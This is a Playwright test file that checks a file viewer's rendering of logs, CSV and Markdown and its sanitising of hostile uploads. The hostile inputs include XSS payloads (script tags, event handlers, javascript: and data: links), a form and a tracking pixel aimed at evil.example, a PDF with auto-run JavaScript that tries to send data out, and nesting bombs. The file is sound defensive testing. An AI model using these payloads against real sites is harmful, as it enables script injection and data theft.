import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { folderUrl } from './folder-url.ts'

const viewer = (page: Page, name: string) => page.getByRole('dialog', { name, exact: true })

test('a text is read piece by piece, a CSV is a table, Markdown a page and its source, with details', async ({
  page,
  barkeep,
  connect,
}) => {
  const line = 'one line of a long log, with its number\n'
  await barkeep.upload({ name: 'a.log', bytes: `${line.repeat(7000)}the end` })
  await barkeep.upload({ name: 'b.csv', bytes: 'name;sum\n"Köln; Rhein";=1+1\n' })
  await barkeep.upload({ name: 'c.md', bytes: '# Title\n\n[file](a.log) **bold**' })
  await connect()
  await page.goto(`${folderUrl(barkeep, '/')}?view=a.log`)
  const log = viewer(page, 'a.log')
  await expect(log.getByText('The first 262 KB of 280 KB are shown.')).toBeVisible()
  await log.getByRole('button', { name: 'Show more' }).click()
  await expect(log.getByText('the end')).toBeAttached()
  await expect(log.getByRole('button', { name: 'Show more' })).toHaveCount(0)

  await log.getByRole('button', { name: 'Next' }).click()
  const table = viewer(page, 'b.csv').getByRole('table')
  await expect(table.getByRole('columnheader', { name: 'sum' })).toBeVisible()
  await expect(table.getByRole('cell', { name: '=1+1' })).toBeVisible()
  await expect(table.getByRole('cell', { name: 'Köln; Rhein' })).toBeVisible()

  await viewer(page, 'b.csv').getByRole('button', { name: 'Next' }).click()
  const markdown = viewer(page, 'c.md')
  await expect(markdown.getByRole('heading', { name: 'Title' })).toBeVisible()
  await expect(markdown.getByRole('link', { name: 'file' })).toHaveAttribute('rel', /noopener/)
  await markdown.getByRole('button', { name: 'Source' }).click()
  await expect(markdown.getByText('**bold**')).toBeVisible()

  const details = markdown.getByRole('complementary', { name: 'Details' })
  await page.keyboard.press('i')
  await expect(details.getByText('SHA-256')).toBeVisible()
  await markdown.getByRole('button', { name: 'Details', exact: true }).click()
  await expect(details).toHaveCount(0)
})

const hostile = `# Shown

<script>top.stolen = 1</script><img src="x" onerror="top.stolen = 2">
<svg onload="top.stolen = 3"><script>top.stolen = 4</script></svg>
<iframe srcdoc="<script>top.stolen = 5</script>"></iframe>
<form action="https://evil.example/"><input name="key"><button>Send</button></form>
<style>* { display: none !important }</style><a href="#" id="cookie" style="position: fixed" onclick="top.stolen = 6">A</a>

[script](javascript:top.stolen=7) [data](data:text/html,<script>top.stolen=8</script>) [tab](<java&#9;script:top.stolen=9>)
![far](https://evil.example/pixel.png) [out](https://example.org/)

${'| a '.repeat(300)}|
${'| - '.repeat(300)}|
${`${'| b '.repeat(300)}|\n`.repeat(5)}`

/** Whose script says what it can see, after it has tried to send something. */
function scriptedPdf(): string {
  const script =
    'try { this.submitForm("/stolen?1") } catch (e) {} try { this.getURL("/stolen?2", false) } catch (e) {} ' +
    'app.alert("sees " + [typeof fetch, typeof XMLHttpRequest, typeof sessionStorage, typeof parent, typeof document])'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
  ]
  const body = objects.map((one, index) => `${index + 1} 0 obj\n${one}\nendobj\n`)
  return `%PDF-1.4\n${body.join('')}trailer << /Size 4 /Root 1 0 R >>\n%%EOF`
}

test('hostile papers run nothing, fetch nothing and do not freeze the page', async ({
  page,
  barkeep,
  connect,
  watch,
}) => {
  // Chromium says this of attributes that are parsed to be thrown away.
  watch.expectTrouble(/inline event handler violates/)
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await barkeep.upload({ name: 'a.md', bytes: hostile })
  await barkeep.upload({ name: 'b.json', bytes: '['.repeat(100_000) })
  await barkeep.upload({ name: 'c.txt', bytes: 'x'.repeat(1_000_000) })
  await barkeep.upload({ name: 'd.html', bytes: '<script>top.stolen = 10</script>' })
  await barkeep.upload({ name: 'e.md', bytes: '>'.repeat(200_000) })
  await barkeep.upload({ name: 'f.pdf', bytes: scriptedPdf() })
  await connect()
  await page.goto(`${folderUrl(barkeep, '/')}?view=a.md`)

  const markdown = viewer(page, 'a.md')
  await expect(markdown.getByRole('heading', { name: 'Shown' })).toBeVisible()
  await expect(markdown.getByText('Picture: far')).toBeVisible()
  const content = markdown.locator('article')
  await expect(content.locator('th')).toHaveCount(100)
  await expect(content.locator('script, iframe, form, input, button, style, svg, img')).toHaveCount(
    0,
  )
  const links = await content
    .locator('a[href]')
    .evaluateAll((all) => all.map((one) => one.getAttribute('href')))
  expect(links).toEqual(['#', 'https://example.org/'])
  const unsafe = content.locator('[onclick], [onerror], [style], [id]')
  await expect(unsafe).toHaveCount(0)

  const next = async (from: string) =>
    await viewer(page, from).getByRole('button', { name: 'Next' }).click()
  await next('a.md')
  await expect(viewer(page, 'b.json').getByText('nested too deep')).toBeVisible()
  await next('b.json')
  await expect(viewer(page, 'c.txt').getByText('The first 262 KB of 1 MB')).toBeAttached()
  await next('c.txt')
  await expect(viewer(page, 'd.html').getByText('<script>top.stolen = 10</script>')).toBeVisible()
  await next('d.html')
  await expect(viewer(page, 'e.md').getByText('>>>>>>').first()).toBeVisible()

  await leaveToPdf(page, () => next('e.md'))
  expect(await page.evaluate(() => (window as { stolen?: number }).stolen)).toBeUndefined()
  expect(asked.filter((url) => /stolen|evil|example/.test(url))).toEqual([])
})

/** Browsers differ in whether they show PDFs: Chromium's headless shell does not, Chromium does. */
async function leaveToPdf(page: Page, next: () => Promise<void>): Promise<void> {
  if (!(await page.evaluate(() => navigator.pdfViewerEnabled))) {
    await next()
    await expect(viewer(page, 'f.pdf').getByText('This browser shows no PDFs')).toBeVisible()
    return
  }
  const alerted = page.waitForEvent('dialog')
  await next()
  // It ran, in a world that has neither a page nor a network.
  const alert = await alerted
  expect(alert.message()).toBe('sees undefined,undefined,undefined,undefined,undefined')
  await alert.dismiss()
}
